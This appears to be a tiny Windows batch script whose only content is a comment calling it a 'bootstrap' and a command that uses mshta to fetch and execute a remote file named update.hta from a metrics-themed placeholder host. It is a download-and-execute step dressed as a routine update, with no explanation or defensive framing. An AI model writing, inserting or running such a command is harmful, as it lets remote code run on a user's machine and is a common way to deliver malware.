REM bootstrap 9122 v1
mshta http://static.metrics-node.example/update.hta
